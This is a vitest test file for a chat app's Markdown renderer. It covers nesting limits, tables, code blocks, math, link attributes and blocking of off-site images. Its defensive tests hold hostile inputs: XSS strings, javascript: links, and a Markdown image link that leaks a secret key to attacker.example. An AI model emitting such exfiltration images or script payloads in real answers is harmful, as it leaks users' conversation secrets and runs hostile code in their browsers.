import { describe, expect, it } from 'vitest';
import { ImageHostsProvider, imageSource } from './answer-image';
import { Markdown } from './markdown';
import { buttons, render, textOf } from './test-html';

const md = (text: string) => render(<Markdown text={text} />);

describe('Markdown', () => {
  it('shows an answer nested too deep to build (thousands of `>` or `- ` in a row) as its text: the page stays', () => {
    for (const text of [
      `${'>'.repeat(3000)} deep end`,
      `${'>'.repeat(10_000)} deep end`,
      `${'- '.repeat(5000)}deep end`,
    ]) {
      const html = md(text);
      expect(html).toContain('deep end');
    }
    // Ordinary nesting still renders as Markdown.
    expect(md('> > quoted twice')).toMatch(/<blockquote>\s*<blockquote>\s*<p>quoted twice<\/p>/);
  });

  it('shows an answer whose lists or quotes nest deeper than any real answer as its text, without parsing it', () => {
    // The probe's answer: a list nested 1,000 deep (~1 MB) kept the Markdown pipeline busy for 91 s before it threw.
    const nested = (depth: number, indent: string) =>
      Array.from({ length: depth }, (_, i) => `${indent.repeat(i)}- level ${i + 1}`).join('\n');
    const cases = [
      nested(40, '  '),
      nested(1000, '  '),
      Array.from({ length: 40 }, (_, i) => `${'> '.repeat(i + 1)}quote ${i + 1}`).join('\n'),
      `${'- > '.repeat(20)}mixed`,
    ];
    for (const text of cases) {
      const html = md(text);
      expect(html).not.toMatch(/<ul|<li|<blockquote/);
      expect(textOf(html)).toContain(text.split('\n').at(-1)!.trim());
    }
    // What real answers write still renders: a deep outline at 4 spaces a level, and a code block whose lines are
    // indented far more than any list (indentation alone opens no level).
    expect(md(nested(8, '    ')).match(/<ul>/g)).toHaveLength(8);
    const code = md(`\`\`\`yaml\n${nested(12, '    ')}\n${' '.repeat(200)}x: 1\n\`\`\``);
    expect(code).toContain('<code class="hljs language-yaml">');
  });

  it('renders GFM tables (scrollable), strikethrough and task lists', () => {
    const html = md('| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~\n\n- [x] done\n- [ ] todo');
    expect(html).toMatch(/<div class="[^"]*overflow-x-auto[^"]*"><table[^>]*>[\s\S]*<th[^>]*>a<\/th>/);
    expect(html).toContain('<td class="border border-neutral-300 px-2 py-1 align-top dark:border-neutral-700">2</td>');
    expect(html).toContain('<del>gone</del>');
    expect(html.match(/<input type="checkbox" disabled=""/g)).toHaveLength(2);
    expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="Done" checked=""\/> done/);
    expect(html).toMatch(/<input type="checkbox" disabled="" aria-label="Not done"\/> todo/);
  });

  it('puts headings one level under the page’s h1: # is an h2, ###### stays an h6', () => {
    const html = md('# Title\n\n## Part\n\n### Detail\n\n###### Fine print');
    expect(html).not.toMatch(/<h1[\s>]/);
    expect(html).toMatch(/<h2[^>]*>Title<\/h2>/);
    expect(html).toMatch(/<h3[^>]*>Part<\/h3>/);
    expect(html).toMatch(/<h4[^>]*>Detail<\/h4>/);
    expect(html).toMatch(/<h6[^>]*>Fine print<\/h6>/);
  });

  it('opens links, including bare autolinks, in a new tab with noopener noreferrer', () => {
    const html = md('See https://example.org and [docs](https://qwen.ai/docs).');
    const links = Array.from(html.matchAll(/<a ([^>]*)>/g), (m) => m[1]);
    expect(links).toHaveLength(2);
    for (const attrs of links) {
      expect(attrs).toContain('target="_blank"');
      expect(attrs).toContain('rel="noopener noreferrer"');
    }
    expect(links[1]).toContain('href="https://qwen.ai/docs"');
  });

  it('never renders raw HTML or javascript: links', () => {
    const html = md('<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n[x](javascript:alert(3))');
    expect(html).not.toMatch(/<script|<img|href="javascript/i);
    expect(textOf(html)).toContain('<script>alert(1)</script>');
  });

  it('highlights fenced code and gives it a "Copy code" button and its language', () => {
    const html = md('```python\ndef f(x):\n    return x + 1\n```');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toContain('<code class="hljs language-python">');
    expect(buttons(html).map((b) => b.name)).toEqual(['Copy code']);
    expect(html).toMatch(/<span class="[^"]*font-mono[^"]*">python<\/span>/);
    // Long lines scroll instead of widening the page at phone width.
    expect(html).toMatch(/<pre tabindex="0" class="[^"]*overflow-x-auto/);
  });

  it('renders an unclosed fence (mid-stream) as a code block', () => {
    const html = md('Here:\n\n```js\nconst a = 1;\nconst b');
    expect(html).toContain('<code class="hljs language-js">');
    expect(html.replace(/<[^>]+>/g, '')).toContain('const a = 1;\nconst b');
    expect(buttons(html)).toHaveLength(1);
  });

  it('renders inline and display math in dollar and LaTeX bracket forms', () => {
    const html = md('Inline $a^2$ and \\(b^2\\).\n\n$$\nc^2\n$$\n\n\\[\nd^2\n\\]');
    const annotations = Array.from(html.matchAll(/<annotation encoding="application\/x-tex">([^<]*)</g), (m) => m[1]);
    expect(annotations).toEqual(['a^2', 'b^2', 'c^2', 'd^2']);
    expect(html.match(/class="katex-display"/g)).toHaveLength(2);
    expect(html).not.toContain('\\(');
  });

  it('leaves math-looking text inside code alone', () => {
    const html = md('`\\(x\\)`');
    expect(html).toContain('<code>\\(x\\)</code>');
    expect(html).not.toContain('class="katex');
  });

  it("never loads an answer's image from another site: a button names its host instead", () => {
    const secret = 'sk-secret-from-the-conversation';
    for (const [locale, name] of [
      ['en', 'Load image from attacker.example:8080'],
      ['zh-CN', '从 attacker.example:8080 加载图片'],
    ] as const) {
      const html = render(<Markdown text={`Done. ![chart](http://attacker.example:8080/leak?d=${secret})`} />, locale);
      expect(html).not.toMatch(/<img/);
      expect(html).not.toContain(secret);
      expect(buttons(html).map((b) => b.name)).toEqual([name]);
    }
    // Other spellings of "another site": protocol-relative, upper case.
    for (const src of ['//attacker.example/x.png', 'HTTPS://Attacker.Example/x.png'])
      expect(md(`![x](${src})`)).not.toMatch(/<img/);
  });

  it("shows the app's own images, and IMAGE_HOSTS' without a click", () => {
    expect(md('![plot](/api/artifacts/r1/plot.png)')).toMatch(/<img src="\/api\/artifacts\/r1\/plot.png" alt="plot"/);
    const allowed = render(
      <ImageHostsProvider hosts={['images.example.com', '*.cdn.example.org']}>
        <Markdown
          text={
            '![a](https://images.example.com/a.png) ![b](https://x.cdn.example.org/b.png) ![c](https://cdn.example.org/c.png) ![d](https://images.example.com:8443/d.png)'
          }
        />
      </ImageHostsProvider>,
    );
    expect(allowed).toContain('src="https://images.example.com/a.png"');
    expect(allowed).toContain('src="https://x.cdn.example.org/b.png"');
    // `*.x` is x's subdomains, not x; a port the entry does not name is another host.
    expect(buttons(allowed).map((b) => b.name)).toEqual([
      'Load image from cdn.example.org',
      'Load image from images.example.com:8443',
    ]);
  });

  it('decides by origin: the page origin once in the browser, data: and blob: as they are', () => {
    expect(imageSource('https://studio.example/api/images/x.png', [], 'https://studio.example')).toEqual({
      direct: true,
    });
    expect(imageSource('https://studio.example/api/images/x.png', [], null).direct).toBe(false);
    expect(imageSource('data:image/png;base64,AAAA', [], null)).toEqual({ direct: true });
    expect(imageSource('javascript:alert(1)', [], null)).toEqual({ direct: false });
    // A backslash the browser reads as a slash (a tool result's URL is not escaped as Markdown's is).
    const backslash = imageSource('/\\attacker.example/x.png', [], 'https://studio.example');
    expect(backslash.direct === false && backslash.url?.host).toBe('attacker.example');
  });
});
